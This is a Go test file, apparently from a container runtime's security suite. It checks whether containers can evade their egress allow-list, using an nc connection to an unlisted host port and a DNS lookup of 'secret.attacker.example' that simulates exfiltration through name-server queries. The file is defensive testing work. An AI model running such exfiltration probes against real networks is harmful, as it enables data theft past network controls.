package attack

import (
	"net"
	"strings"
	"testing"
	"time"

	"github.com/longshore/longshore/internal/weaken"
)

// egressAttempts evade the egress list of a container. test/egress has the others, with controls of another kind.
func egressAttempts() []attempt {
	return []attempt{
		{name: "an address that is not in its egress list", actor: containerRoot, weak: weaken.EgressRules, run: unlistedAddress},
		{name: "a question with data for a name server, beside its egress list", actor: containerRoot, weak: weaken.EgressNames, run: unlistedName},
	}
}

// hostAddress returns an address of the host that containers reach.
func hostAddress(t *testing.T, w *world) string {
	t.Helper()
	return strings.TrimSpace(w.must(t, "run", "--rm", w.image, "/bin/sh", "-c", "ip route | sed -n 's/default via \\([0-9.]*\\).*/\\1/p'"))
}

func unlistedAddress(t *testing.T, w *world) result {
	l, err := net.Listen("tcp", net.JoinHostPort(hostAddress(t, w), "0"))
	if err != nil {
		return is(unmade, "%v", err)
	}
	defer func() { _ = l.Close() }()
	seen := make(chan struct{}, 1)
	go func() {
		c, err := l.Accept()
		if err == nil {
			seen <- struct{}{}
			_ = c.Close()
		}
	}()
	host, port, _ := net.SplitHostPort(l.Addr().String())
	out, err := w.CLI("run", "--rm", "--egress", "api.example.com", w.image, "nc", "-w", "5", host, port)
	select {
	case <-seen:
		return is(reached, "the server was reached: %q %v", out, err)
	default:
	}
	if err == nil {
		return is(unmade, "nc succeeded, and the server saw nothing: %q", out)
	}
	return is(refused, "nc: %v %s", err, one(out))
}

func unlistedName(t *testing.T, w *world) result {
	address := hostAddress(t, w)
	conn, err := net.ListenPacket("udp4", net.JoinHostPort(address, "53"))
	if err != nil {
		return is(unmade, "%v", err)
	}
	defer func() { _ = conn.Close() }()
	out, err := w.CLI("run", "--rm", "--dns", address, "--egress", "api.example.com", w.image, "nslookup", "secret.attacker.example")
	if err := conn.SetReadDeadline(time.Now().Add(10 * time.Millisecond)); err != nil {
		return is(unmade, "%v", err)
	}
	buf := make([]byte, 512)
	if n, _, err := conn.ReadFrom(buf); err == nil && strings.Contains(string(buf[:n]), "attacker") {
		return is(reached, "the question left the node: %q", buf[:n])
	}
	if err == nil {
		return is(unmade, "nslookup succeeded, and no question left the node: %q", out)
	}
	return is(refused, "nslookup: %v %s", err, one(out))
}
